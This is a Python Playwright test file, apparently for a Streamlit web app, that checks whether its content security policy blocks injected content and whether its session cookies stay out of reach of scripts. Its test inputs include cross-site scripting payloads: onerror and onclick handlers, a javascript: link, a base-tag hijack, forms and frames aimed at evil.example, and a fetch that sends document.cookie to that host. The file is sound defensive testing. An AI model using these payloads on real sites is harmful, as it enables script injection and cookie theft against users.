"""Scripts that get into a page do not run, and no page of ours breaks its own policy."""

from __future__ import annotations

from collections.abc import Callable

import pytest
from playwright.sync_api import Browser, StorageState, expect

from pages.ui.navigation import PAGES
from tests.browser.screen import Come

INJECTED = {
    "a script": """() => { const s = document.createElement('script');
        s.text = 'window.pwned = 1'; document.body.append(s) }""",
    "an image that fails": """() => { document.body.insertAdjacentHTML('beforeend',
        '<img src=x: onerror=window.pwned=1>') }""",
    "a part that says what a click does": """() => { document.body.insertAdjacentHTML('beforeend',
        '<b id=b onclick=window.pwned=1>x</b>'); document.getElementById('b').click() }""",
    "a script of another site": """() => { const s = document.createElement('script');
        s.src = 'https://evil.example/x.js'; document.body.append(s) }""",
    "a link that is code": """() => { const a = document.createElement('a'); a.href = 'javascript:window.pwned=1';
        document.body.append(a); a.click() }""",
    "a frame": "() => { document.body.insertAdjacentHTML('beforeend', '<iframe src=https://evil.example></iframe>') }",
    "a form": """() => { document.body.insertAdjacentHTML('beforeend',
        '<form id=f action=https://evil.example method=post></form>'); document.getElementById('f').submit() }""",
    "another base": """() => { document.head.insertAdjacentHTML('afterbegin', '<base href=https://evil.example/>') }""",
    "a question elsewhere": "() => { fetch('https://evil.example/?' + document.cookie).catch(() => {}) }",
    "a picture elsewhere": "() => { new Image().src = 'https://evil.example/x.png' }",
}
ADMINISTRATOR = "Otto"  # every page is open to an administrator
LISTEN = """document.addEventListener('securitypolicyviolation',
    e => { if (e.blockedURI !== 'wasm-eval') (window.broken = window.broken || []).push(e.violatedDirective) })"""


@pytest.mark.parametrize("what", INJECTED)
def test_what_is_put_into_a_page_is_blocked(
    what: str, chromium: Browser, cookies_of: Callable[[str], StorageState], address: str
) -> None:
    with chromium.new_context(storage_state=cookies_of("Lena")) as context:
        page = context.new_page()
        left: list[str] = []
        context.on("requestfinished", lambda request: left.append(request.url))
        page.add_init_script(LISTEN)
        page.goto(address)
        expect(page.get_by_text("signed in as Lena")).to_be_visible()
        page.evaluate(INJECTED[what])
        page.wait_for_function("() => (window.broken || []).length > 0")
        assert page.evaluate("() => window.pwned") is None
        assert [url for url in left if "evil.example" in url] == []
        assert page.url.startswith(address)


@pytest.mark.parametrize("path", [row.path for row in PAGES])
def test_no_page_breaks_its_own_policy(path: str, come: Come) -> None:
    """`come` notes every error that the browser writes to its console; a break of the policy is one."""
    page = come("" if path == "start" else path, person=ADMINISTRATOR)
    expect(page.locator("[data-testid=stMain]")).to_be_visible()
    expect(page.locator("[data-testid=stApp][data-test-script-state=notRunning]")).to_be_attached()
    page.wait_for_timeout(500)
    assert page.locator("[data-testid=stException]").count() == 0


def test_cookies_are_out_of_the_reach_of_scripts(
    chromium: Browser, cookies_of: Callable[[str], StorageState], address: str
) -> None:
    with chromium.new_context(storage_state=cookies_of("Lena")) as context:
        page = context.new_page()
        page.goto(address)
        kept = [one for one in context.cookies() if str(one.get("name", "")).startswith(("samepage", "__Host-"))]
        assert kept
        assert all(one.get("httpOnly") and one.get("sameSite") == "Lax" for one in kept)
        assert "samepage" not in page.evaluate("() => document.cookie")
